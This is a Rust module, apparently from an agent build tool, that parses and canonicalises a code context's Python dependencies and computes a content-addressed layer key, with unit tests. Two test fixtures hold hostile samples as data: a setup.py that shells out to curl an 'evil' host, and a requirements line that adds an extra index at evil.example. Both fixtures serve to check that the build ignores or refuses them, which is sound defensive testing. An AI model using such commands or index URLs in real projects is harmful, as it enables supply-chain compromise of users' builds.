//! Which dependencies a code context declares, checked and made canonical, and the
//! content-addressed key of the dependency layer built from them.

use crate::error::ContextError;
use crate::lock::{self, PYPROJECT, UV_LOCK};
use crate::requirements;
use crate::runtime::PythonRuntime;
use sha2::{Digest, Sha256};
use std::io::{Read, Seek};
use zip::ZipArchive;

pub const REQUIREMENTS_TXT: &str = "requirements.txt";
/// The platform the layer's wheels are for (`uv pip install --python-platform`): AgentCore
/// Runtime runs arm64 Linux.
pub const PLATFORM: &str = "aarch64-manylinux2014";
/// Bumped when the layer's layout or the build's install flags change, so old layers are not
/// reused for a new format.
pub const LAYER_FORMAT: u32 = 1;
/// A dependency file larger than this is refused before it is read (bounded memory).
pub const MAX_DEPENDENCY_FILE: u64 = 4 * 1024 * 1024;

/// A context's dependencies: what the build installs and the key of the layer it produces.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dependencies {
    /// One canonical requirement a line (`name[extras]spec ; marker`), sorted, `\n`-terminated;
    /// what the build gets (`uv pip install -r`), never the context's own file.
    pub requirements: String,
    /// `dependencies/<key>.zip`: hex SHA-256 of the requirements, runtime, platform, format.
    pub key: String,
    /// The file the requirements came from: `requirements.txt` or `uv.lock`.
    pub source: &'static str,
}

/// The layer's key: equal requirements for the same runtime share one layer across the fleet.
pub fn dependencies_key(requirements: &str, runtime: PythonRuntime) -> String {
    let mut hash = Sha256::new();
    hash.update(format!(
        "agentbuild dependency layer v{LAYER_FORMAT}\nruntime={runtime}\nplatform={PLATFORM}\n\n"
    ));
    hash.update(requirements.as_bytes());
    hex::encode(hash.finalize())
}

/// A root file of the context as text, or None when absent.
fn read_root_file<R: Read + Seek>(
    context: &mut ZipArchive<R>,
    name: &str,
) -> Result<Option<String>, ContextError> {
    let Some(index) = context.index_for_name(name) else {
        return Ok(None);
    };
    let file = context
        .by_index(index)
        .map_err(|e| ContextError::zip(name, e))?;
    if file.size() > MAX_DEPENDENCY_FILE {
        return Err(ContextError::new(
            name,
            format!(
                "{} bytes: over the {MAX_DEPENDENCY_FILE}-byte limit of a dependency file",
                file.size()
            ),
        ));
    }
    let mut text = String::new();
    file.take(MAX_DEPENDENCY_FILE + 1)
        .read_to_string(&mut text)
        .map_err(|e| ContextError::new(name, format!("not UTF-8 text: {e}")))?;
    Ok(Some(text))
}

fn finish(
    lines: Vec<String>,
    runtime: PythonRuntime,
    source: &'static str,
) -> Option<Dependencies> {
    if lines.is_empty() {
        return None;
    }
    let requirements: String = lines.into_iter().map(|l| l + "\n").collect();
    let key = dependencies_key(&requirements, runtime);
    Some(Dependencies {
        requirements,
        key,
        source,
    })
}

/// The context's dependencies, from its root `requirements.txt` if it has one, else from
/// `pyproject.toml` + `uv.lock`; None when the project declares none. Every line is checked
/// (see `requirements`); a refusal names `file:line` and the rule. Nothing is executed.
pub fn read_dependencies<R: Read + Seek>(
    context: &mut ZipArchive<R>,
    runtime: PythonRuntime,
) -> Result<Option<Dependencies>, ContextError> {
    if let Some(text) = read_root_file(context, REQUIREMENTS_TXT)? {
        let reqs = requirements::parse_file(REQUIREMENTS_TXT, &text)?;
        return Ok(finish(
            reqs.iter().map(|r| r.canonical()).collect(),
            runtime,
            REQUIREMENTS_TXT,
        ));
    }
    let Some(pyproject) = read_root_file(context, PYPROJECT)? else {
        return Ok(None);
    };
    let (name, has_dependencies) = lock::project(&lock::parse_toml(PYPROJECT, &pyproject)?)?;
    let Some(lock_text) = read_root_file(context, UV_LOCK)? else {
        if has_dependencies {
            return Err(ContextError::new(PYPROJECT, "declares dependencies but the context has no uv.lock (run `uv lock`) and no requirements.txt"));
        }
        return Ok(None);
    };
    let name = name.ok_or_else(|| {
        ContextError::new(
            PYPROJECT,
            "no `[project] name`: cannot find the project in uv.lock",
        )
    })?;
    let pins = lock::locked_requirements(&lock::parse_toml(UV_LOCK, &lock_text)?, &name, runtime)?;
    Ok(finish(pins, runtime, UV_LOCK))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testzip::zip_of;

    #[test]
    fn reads_requirements_txt_canonical_with_a_golden_key() {
        let mut z = zip_of(&[
            ("main.py", "x"),
            (
                "requirements.txt",
                "strands-agents\nbedrock-agentcore>=0.1\n",
            ),
        ]);
        let deps = read_dependencies(&mut z, PythonRuntime::Python312)
            .unwrap()
            .unwrap();
        assert_eq!(
            deps.requirements,
            "bedrock-agentcore>=0.1\nstrands-agents\n"
        );
        assert_eq!(deps.source, "requirements.txt");
        assert_eq!(
            deps.key,
            dependencies_key(&deps.requirements, PythonRuntime::Python312)
        );
        assert_eq!(
            deps.key,
            "ba1513af89a875d83792d3e081c6ef4c2204c03660295fce075202ef100b0c6b"
        );
        // Another runtime, another layer.
        assert_ne!(
            deps.key,
            dependencies_key(&deps.requirements, PythonRuntime::Python313)
        );
    }

    #[test]
    fn equal_requirements_in_another_order_share_a_key() {
        let mut a = zip_of(&[("requirements.txt", "b\na\n")]);
        let mut b = zip_of(&[("requirements.txt", "# x\nA\n\nB # y\n")]);
        let ka = read_dependencies(&mut a, PythonRuntime::NEWEST)
            .unwrap()
            .unwrap()
            .key;
        let kb = read_dependencies(&mut b, PythonRuntime::NEWEST)
            .unwrap()
            .unwrap()
            .key;
        assert_eq!(ka, kb);
    }

    #[test]
    fn none_without_dependencies() {
        for files in [
            vec![("main.py", "x")],
            vec![("requirements.txt", "# nothing\n")],
            vec![(
                "pyproject.toml",
                "[project]\nname = \"a\"\ndependencies = []\n",
            )],
        ] {
            assert_eq!(
                read_dependencies(&mut zip_of(&files), PythonRuntime::NEWEST).unwrap(),
                None
            );
        }
    }

    #[test]
    fn refuses_pyproject_dependencies_without_a_lock() {
        let mut z = zip_of(&[(
            "pyproject.toml",
            "[project]\nname = \"a\"\ndependencies = [\"boto3\"]\n",
        )]);
        let err = read_dependencies(&mut z, PythonRuntime::NEWEST).unwrap_err();
        assert_eq!(err.file, "pyproject.toml");
        assert!(err.message.contains("uv.lock"), "{err}");
    }

    #[test]
    fn reads_pyproject_with_uv_lock() {
        let lock = "version = 1\n[[package]]\nname = \"a\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\ndependencies = [{ name = \"boto3\" }]\n[[package]]\nname = \"boto3\"\nversion = \"1.40.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n";
        let mut z = zip_of(&[
            (
                "pyproject.toml",
                "[project]\nname = \"A\"\ndependencies = [\"boto3\"]\n",
            ),
            ("uv.lock", lock),
        ]);
        let deps = read_dependencies(&mut z, PythonRuntime::NEWEST)
            .unwrap()
            .unwrap();
        assert_eq!(
            (deps.requirements.as_str(), deps.source),
            ("boto3==1.40.0\n", "uv.lock")
        );
    }

    #[test]
    fn a_setup_py_is_never_read_or_run() {
        // setup.py is not a dependency source: its presence changes nothing.
        let mut z = zip_of(&[
            ("setup.py", "import os; os.system('curl evil')"),
            ("requirements.txt", "boto3\n"),
        ]);
        let deps = read_dependencies(&mut z, PythonRuntime::NEWEST)
            .unwrap()
            .unwrap();
        assert_eq!(deps.requirements, "boto3\n");
    }

    #[test]
    fn refuses_a_line_naming_file_and_line() {
        let mut z = zip_of(&[(
            "requirements.txt",
            "boto3\n--extra-index-url https://evil.example/simple\n",
        )]);
        let err = read_dependencies(&mut z, PythonRuntime::NEWEST).unwrap_err();
        assert!(
            err.to_string()
                .starts_with("requirements.txt:2: `--extra-index-url"),
            "{err}"
        );
    }
}
